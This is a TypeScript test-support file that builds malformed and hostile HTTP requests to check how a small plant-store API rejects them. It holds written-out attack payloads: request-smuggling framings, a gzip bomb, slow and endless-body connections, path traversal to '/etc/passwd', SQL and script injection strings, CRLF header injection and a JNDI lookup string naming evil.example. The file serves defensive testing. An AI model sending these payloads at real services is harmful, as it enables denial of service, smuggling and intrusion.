import type { Socket } from 'node:net';
import { brotliCompressSync, deflateSync, gzipSync, zstdCompressSync } from 'node:zlib';
import { makeToken } from '../../packages/trellis/src/auth/token.ts';
import type { TestApp } from '../../packages/trellis/test/support/app.ts';
import { byHand, JSON_TYPE, VALID } from '../../packages/trellis/test/support/raw.ts';

/** What a client sends on one connection: bytes, or a function that uses the socket. */
export type Message = Buffer | ((socket: Socket) => void);

/**
 * Attacks by their names in the manual's table, which end before the colon. Each function gets the examples that its row
 * has in backticks, and returns the messages to send.
 */
export type Attempts = Readonly<Record<string, (examples: readonly string[]) => readonly Message[]>>;

const POST = 'POST /plants HTTP/1.1';
const CHUNKED = 'Transfer-Encoding: chunked';

/** An HTTP message, which may be malformed. */
function message(line: string, fields: readonly string[], body: string | Buffer = ''): Buffer {
  return Buffer.concat([Buffer.from(`${[line, ...fields].join('\r\n')}\r\n\r\n`, 'latin1'), Buffer.from(body)]);
}

const lengthOf = (body: string | Buffer) => `Content-Length: ${Buffer.byteLength(body)}`;
const LENGTH = lengthOf(VALID);

/** Builders of messages that are valid except for what an attack changes. */
export function messages(app: TestApp) {
  const { HOST, AUTH } = byHand(app, '/plants');
  const fields = [HOST, AUTH, JSON_TYPE];
  const withLine = (line: string, ...more: readonly string[]) => message(line, [...fields, LENGTH, ...more], VALID);
  return {
    HOST,
    AUTH,
    withLine,
    at: (...targets: readonly string[]) => targets.map((target) => withLine(`POST ${target} HTTP/1.1`)),
    get: (path: string, ...more: readonly string[]) => message(`GET ${path} HTTP/1.1`, [HOST, ...more]),
    create: (body: string | Buffer, ...more: readonly string[]) =>
      message(POST, [...fields, lengthOf(body), ...more], body),
    /** With these fields in place of the token. */
    withAuthorization: (...authorization: readonly string[]) =>
      message(POST, [HOST, JSON_TYPE, LENGTH, ...authorization], VALID),
    /** With these fields in place of Content-Length. */
    withFraming: (framing: readonly string[], body: string) => message(POST, [...fields, ...framing], body),
  };
}

export function authorizations(app: TestApp): Attempts {
  const { token } = app;
  const { HOST, withAuthorization, withLine } = messages(app);
  const bearing = (...values: readonly string[]) => values.map((value) => withAuthorization(`Authorization: ${value}`));
  // Base64url ignores the last two bits of the 43rd character of a token.
  const digits = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
  const alike = digits.charAt(digits.indexOf(token.at(-1) ?? '') ^ 1);
  const trailer = `13\r\n${VALID}\r\n0\r\nAuthorization: Bearer ${token}\r\n\r\n`;
  return {
    'another scheme': (schemes) =>
      bearing(...schemes.map((scheme) => `${scheme} ${token}`), `Bearer\t${token}`, 'Bearer', token, ''),
    'the token elsewhere': () => [
      message(`POST /plants?access_token=${token} HTTP/1.1`, [HOST, JSON_TYPE, LENGTH], VALID),
      withAuthorization(`Cookie: access_token=${token}`),
      withAuthorization(`Proxy-Authorization: Bearer ${token}`),
      withAuthorization(`X-Api-Key: ${token}`),
      message(POST, [HOST, JSON_TYPE, CHUNKED, 'Trailer: Authorization'], trailer),
    ],
    'a token with something added': () => [
      ...bearing(`Bearer ${token} ${token}`, `Bearer ${token},`, `Bearer "${token}"`, `Bearer Bearer ${token}`),
      ...bearing(`Bearer token=${token}`, `Bearer ${token}\xe9`, `Bearer \xa0${token}`, "Bearer x'or'1'='1"),
      withLine(POST, `Authorization: Bearer ${token}`),
      withLine(POST, 'Authorization: Basic x'),
    ],
    'a token with a fault': () => [
      ...bearing(`Bearer ${token.toUpperCase()}`, `Bearer ${token}=`, `Bearer ${token.slice(0, -1)}${alike}`),
      ...bearing(`Bearer ${token.slice(0, -1)}`, `Bearer ${makeToken('plant-store')}`, `Bearer ${'x'.repeat(15_000)}`),
    ],
    'control characters': () =>
      ['\0', '\x7f', '\x0b']
        .flatMap((each) => bearing(`Bearer ${token}${each}`))
        .concat(bearing(`Bearer\r\n ${token}`)),
  };
}

export function framings(app: TestApp): Attempts {
  const { HOST, AUTH, get, create, withLine, withFraming } = messages(app);
  const hidden = create('{"id":666,"name":"hidden"}');
  const before = (...all: readonly Buffer[]) => all.map((each) => Buffer.concat([each, hidden]));
  const chunks = (size = '13', behind = '\r\n0\r\n\r\n') => `${size}\r\n${VALID}${behind}`;
  const sized = (...values: readonly string[]) =>
    before(...values.map((value) => withFraming([`Content-Length: ${value}`], VALID)));
  const coded = (...values: readonly string[]) =>
    before(...values.map((value) => withFraming([`Transfer-Encoding: ${value}`], chunks())));
  const chunked = (...bodies: readonly string[]) => before(...bodies.map((body) => withFraming([CHUNKED], body)));
  const chunkSized = (...sizes: readonly string[]) => chunked(...sizes.map((size) => chunks(size)));
  const fielded = (...fields: readonly string[]) => before(...fields.map((field) => withLine(POST, field)));
  const hosted = (...hosts: readonly (readonly string[])[]) =>
    before(...hosts.map((each) => message(POST, [...each, AUTH, JSON_TYPE, LENGTH], VALID)));
  const versioned = (...versions: readonly string[]) =>
    before(...versions.map((version) => withLine(`POST /plants${version}`)));
  const respelt = (from: string | RegExp, to: string) => Buffer.from(String(create(VALID)).replaceAll(from, to));
  const hiding = (line: string, ...fields: readonly string[]) => message(line, [HOST, ...fields], hidden);
  return {
    'two body lengths': () =>
      before(
        withFraming([LENGTH, CHUNKED], chunks()),
        withFraming([CHUNKED, LENGTH], chunks()),
        withFraming([LENGTH, 'Content-Length: 0'], VALID),
        withFraming([LENGTH, LENGTH], VALID),
      ),
    'an invalid length': (lengths) => sized(...lengths, '19 19', '19.0', '', '18446744073709551635'),
    'an invalid transfer coding': (codings) => coded(...codings, 'chunked, chunked', '\x0bchunked', '', '\r\n chunked'),
    'another coding before chunked': (codings) => coded(...codings),
    'an invalid chunk size': (sizes) => [
      ...chunkSized(...sizes, ' 13', '13 ', '', '10000000000000013', '12'),
      ...chunked(chunks('13', '0\r\n\r\n')),
    ],
    'a chunk extension': () => chunkSized(`13;${'x'.repeat(20_000)}`, '13;x\n', '13;x\ry', '13;x="'),
    'a length in the trailer': () => chunked(chunks('13', '\r\n0\r\nContent-Length: 9\r\n\r\n')),
    'an invalid line end': () =>
      before(
        respelt('\r\n', '\n'),
        respelt('\r\n', '\r'),
        respelt(/\r\n(?=Auth)/g, '\n'),
        respelt(/\r\n(?=Auth)/g, '\r'),
        withFraming([CHUNKED], chunks().replaceAll('\r\n', '\n')),
      ),
    'an invalid header field': () => [
      ...fielded('X : y', 'X: y\r\n z', 'X: y\0', 'X\0: y', ': y', 'no colon', 'X: y\x01', 'X\xe9: y'),
    ],
    'an invalid Host': () =>
      hosted([], [HOST, HOST], [HOST, 'Host: evil.example'], ['Host: a, b'], ['Host: a/b'], ['Host: a@b']),
    'another version of HTTP': (versions) => versioned('', ...versions.map((each) => ` ${each}`), ' HTTP/9.9'),
    'an invalid version of HTTP': ([small = '']) => [
      ...versioned(` ${small}`, ' HTTP/1.10'),
      ...before(Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')),
      Buffer.from(String(withFraming([CHUNKED, 'Connection: keep-alive'], chunks())).replace('HTTP/1.1', 'HTTP/1.0')),
    ],
    'a request inside the body of one without a token': () => [
      hiding(POST, JSON_TYPE, lengthOf(hidden)),
      hiding(POST, JSON_TYPE, lengthOf(hidden), 'Expect: 100-continue'),
      message(POST, [HOST, JSON_TYPE, CHUNKED], `${hidden.length.toString(16)}\r\n${String(hidden)}\r\n0\r\n\r\n`),
    ],
    'a request inside the body of another method': (names) =>
      names.map((name) => hiding(`${name} /plants HTTP/1.1`, AUTH, lengthOf(hidden))),
    'a request after an offer to upgrade': (offers) =>
      before(...offers.map((offer) => get('/openapi.yaml', 'Connection: Upgrade', offer))),
    'a tunnel': () => [...before(message('CONNECT evil.example:443 HTTP/1.1', [HOST])), tunnelAndReset(HOST)],
    'another host': () => [
      withLine('POST http://evil.example/plants HTTP/1.1'),
      withLine(POST, 'X-Forwarded-Host: evil.example'),
    ],
  };
}

function tunnelAndReset(host: string): Message {
  return (socket) => {
    socket.write(message('CONNECT evil.example:443 HTTP/1.1', [host]));
    socket.once('data', () => socket.resetAndDestroy());
  };
}

export function bodies(app: TestApp): Attempts {
  const { HOST, AUTH, create, withFraming } = messages(app);
  const coded = (coding: string, ...all: readonly Buffer[]) =>
    all.map((body) => create(body, `Content-Encoding: ${coding}`));
  const gzip = gzipSync(VALID);
  const miscounted = Buffer.from(gzip);
  miscounted.writeUInt32LE(0, gzip.length - 8);
  return {
    'too large a body': ([huge = '']) => [
      create(VALID + ' '.repeat(65_537 - VALID.length)),
      withFraming([huge], VALID),
      withFraming(['Content-Length: 18446744073709551615'], VALID),
    ],
    'a body without end': () => [endless(String(withFraming([CHUNKED], '')))],
    'a gzip bomb': () => coded('gzip', gzipSync(Buffer.alloc(60_000_000, ' '), { level: 9 })),
    'gzip in gzip': () => coded('gzip', gzipSync(gzip)),
    'another content coding': () => [
      ...coded('deflate', deflateSync(VALID)),
      ...coded('br', brotliCompressSync(VALID)),
      ...coded('zstd', zstdCompressSync(VALID)),
      ...coded('gzip, gzip', gzipSync(gzip)),
      create(gzipSync(gzip), 'Content-Encoding: gzip', 'Content-Encoding: gzip'),
    ],
    'broken gzip': () => [
      ...coded('gzip', gzip.subarray(0, -4), miscounted, Buffer.concat([gzip, Buffer.from('junk')])),
      ...coded('gzip', deflateSync(VALID), Buffer.from(VALID)),
    ],
    'gzip of an empty body': () =>
      coded('gzip', gzipSync(''), Buffer.concat(Array.from({ length: 3000 }, () => gzipSync('')))),
    'the media type of an HTML form': (types) =>
      types.map((type) => message(POST, [HOST, AUTH, `Content-Type: ${type}`, LENGTH], VALID)),
  };
}

/** Sends chunks until the service closes the connection. */
function endless(head: string): Message {
  return (socket) => {
    const pump = () => {
      let takesMore = true;
      while (takesMore) takesMore = socket.write(`1000\r\n${'x'.repeat(4096)}\r\n`);
    };
    socket.write(head);
    socket.on('drain', pump);
    pump();
  };
}

export function documents(app: TestApp): Attempts {
  const { create } = messages(app);
  const all = (...texts: readonly (string | Buffer)[]) => texts.map((text) => create(text));
  const withId = (...ids: readonly string[]) => all(...ids.map((id) => `{"id":${id},"name":"x"}`));
  const withMember = (...members: readonly string[]) => all(...members.map((each) => `{"id":1,"name":"x",${each}}`));
  const tagged = (tags: readonly string[]) => withMember(...tags.map((tag) => `"tag":"${tag}"`));
  const named = (...names: readonly string[]) => withMember(...names.map((name) => `"${name}":{"tag":"x"}`));
  const members = (name: (index: number) => string) =>
    `{${Array.from({ length: 7000 }, (_, index) => `"${name(index)}":0`).join(',')}}`;
  const bytes = (hex: string) =>
    Buffer.concat([Buffer.from('{"id":1,"name":"'), Buffer.from(hex, 'hex'), Buffer.from('"}')]);
  return {
    'deep nesting': () => all('['.repeat(33) + ']'.repeat(33), '['.repeat(30_000), '{"a":'.repeat(10_000)),
    'many members or items': () =>
      all(
        members((index) => index.toString(36)),
        members(String),
        `[${'0,'.repeat(32_000)}0]`,
      ),
    'names of JavaScript prototypes': (names) => [
      ...named(...names, 'hasOwnProperty', 'prototype'),
      ...all('{"__proto__":{"id":1,"name":"x"}}', '{"id":1,"name":{"__proto__":{"length":1}}}'),
    ],
    'a repeated member': ([escaped = '', prototype = '']) => [
      ...withMember('"name":"y"', `"${escaped}":"y"`, `"${prototype}":1,"${prototype}":2`),
      ...withMember(`"${'n'.repeat(1000)}":1,"${'n'.repeat(1000)}":1`),
    ],
    'not quite JSON': (ids) => [
      ...withId(...ids, '-Infinity', '1n', '+1'),
      ...all(`\ufeff${VALID}`, VALID + VALID, `/**/${VALID}`, "{'id':1}", Buffer.from(VALID, 'utf16le')),
      ...withMember('', '"tag":"\0"', String.raw`"tag":"\x41"`),
    ],
    'not quite UTF-8': () => all(bytes('c0af'), bytes('eda080'), bytes('ff'), bytes('f4908080')),
    'an id out of range': (ids) => [...withId(...ids, '1'.repeat(60_000))],
    'an invalid id': (ids) => [...withId(...ids, '9223372036854775808', `0.${'0'.repeat(60_000)}1`, 'true', 'null')],
    'the id 1 with 60,000 zeros': () => withId(`1.${'0'.repeat(60_000)}`, `1${'0'.repeat(60_000)}e-60000`),
    'lone surrogates': tagged,
    'U+0000': tagged,
  };
}

export function floods(app: TestApp): Attempts {
  const { HOST, at, withFraming, withLine } = messages(app);
  const trailer = `13\r\n${VALID}\r\n0\r\nX: ${'x'.repeat(20_000)}\r\n\r\n`;
  return {
    'header fields': () => [
      withLine(POST, `X: ${'x'.repeat(20_000)}`),
      withLine(POST, `${'x'.repeat(20_000)}: x`),
      withLine(POST, ...Array.from({ length: 10_000 }, () => 'a: b')),
      withFraming([CHUNKED], trailer),
    ],
    'a long request target': () => at(`/${'x'.repeat(1_000_000)}`, `/plants?${'a=1&'.repeat(10_000)}`),
    'many query parameters': () => at(`/plants?${'a&'.repeat(5000)}`, `/plants?${'&'.repeat(9000)}a`),
    'a slow head': () => [trickle(HOST)],
  };
}

/** Sends a head, of which the last field gets one byte each second. */
function trickle(host: string): Message {
  return (socket) => {
    socket.write(`${POST}\r\n${host}\r\n`);
    const timer = setInterval(() => socket.write('x'), 1000);
    socket.once('close', () => {
      clearInterval(timer);
    });
  };
}

export function paths(app: TestApp): Attempts {
  const { at, get, withLine } = messages(app);
  return {
    'a path that resembles one': (targets) => [
      ...at(...targets, '/./plants', '/plants%', '/plants%2f', '/plants%20', '/plants\\', '/plants/.', '/plants.json'),
      ...at('/plants#', '/__proto__', '//evil.example/plants', 'ftp://evil.example/plants', '*'),
    ],
    'a path to a file': (files) =>
      [
        ...[...files, '/docs/swagger-ui.css/../../package.json', '/docs/..\\..\\package.json', '/../../etc/passwd'],
        ...['/docs//etc/passwd', '/docs/swagger-ui.css%00.js', '/.git/config', '/node_modules/express/package.json'],
      ].map((path) => get(path)),
    'bytes that a path must not have': () => [
      ...at('/plants\0', '/plants\x1b[2J', '/plants\x7f', '/plants\x9b', '/plants x', 'plants', '?x'),
    ],
    'another path in a header field': (names) =>
      names.map((name) => withLine('POST /none HTTP/1.1', `${name}: /plants`)),
    'an unknown query parameter': (queries) =>
      at(...[...queries, '?id=1', '?access_token=x'].map((query) => `/plants${query}`)),
    'a query that is not percent-encoded UTF-8': (queries) =>
      at(...[...queries, '?%C3=1'].map((query) => `/plants${query}`)),
    'another contract for /docs': () => [
      get('/docs/?url=https://evil.example'),
      get('/docs/?configUrl=https://evil.example'),
    ],
    'a redirect to another host': () => [
      message('GET /docs HTTP/1.1', [
        'Host: evil.example',
        'X-Forwarded-Host: evil.example',
        'X-Forwarded-Prefix: /evil',
      ]),
    ],
  };
}

export function methods(app: TestApp): Attempts {
  const { HOST, AUTH, withLine } = messages(app);
  const by = (...names: readonly string[]) => names.map((name) => withLine(`${name} /plants HTTP/1.1`));
  const overrides = (method: string) =>
    ['X-HTTP-Method-Override', 'X-HTTP-Method', 'X-Method-Override'].map((name) => `${name}: ${method}`);
  const cors = ['Origin: https://evil.example', 'Access-Control-Request-Method: POST'];
  return {
    'another method': (names) => by(...names, 'PATCH', 'PURGE', 'SOURCE'),
    'an unknown method': (names) => by(...names, 'P\0ST'),
    'an echo of the token': () => [message('TRACE /docs/ HTTP/1.1', [HOST, AUTH])],
    'a DELETE with another method in a header field': () => [
      message('DELETE /plants HTTP/1.1', [HOST, AUTH, ...overrides('POST'), LENGTH], VALID),
    ],
    'a POST with another method in a header field': () => [withLine(POST, ...overrides('DELETE'))],
    'a page of another origin': () =>
      ['OPTIONS', 'DELETE'].map((method) => message(`${method} /plants HTTP/1.1`, [HOST, ...cors])),
  };
}

export function injections(app: TestApp): Attempts {
  const { at, create, get } = messages(app);
  const named = (...names: readonly string[]) =>
    names.map((name) => create(JSON.stringify({ id: 1, name, tag: name })));
  const identified = (...ids: readonly string[]) => ids.map((id) => get('/openapi.yaml', `X-Request-Id: ${id}`));
  return {
    SQL: (texts) => named(...texts, "' or '1'='1", '"; delete from tokens; --', '\\', '%', '${1+1}'),
    HTML: () => named('<script>alert(1)</script>', '</textarea><img src=x onerror=alert(1)>'),
    'HTML in a path': () => at('/<script>alert(1)</script>'),
    'a request id': () => [
      ...identified('a%0d%0aSet-Cookie:x=1', 'a b', '"},{"', '${jndi:ldap://evil.example}', 'x'.repeat(129), '\xe9'),
      ...identified('a\tb', 'a\r\nX-Request-Id: b'),
    ],
    'a path with a line of the log': ([fatal = '', escape = '']) =>
      [fatal, '/"},{"level":"fatal', `/${escape}`, '/\\n', `/${'x'.repeat(9000)}`].map((path) => get(path)),
  };
}
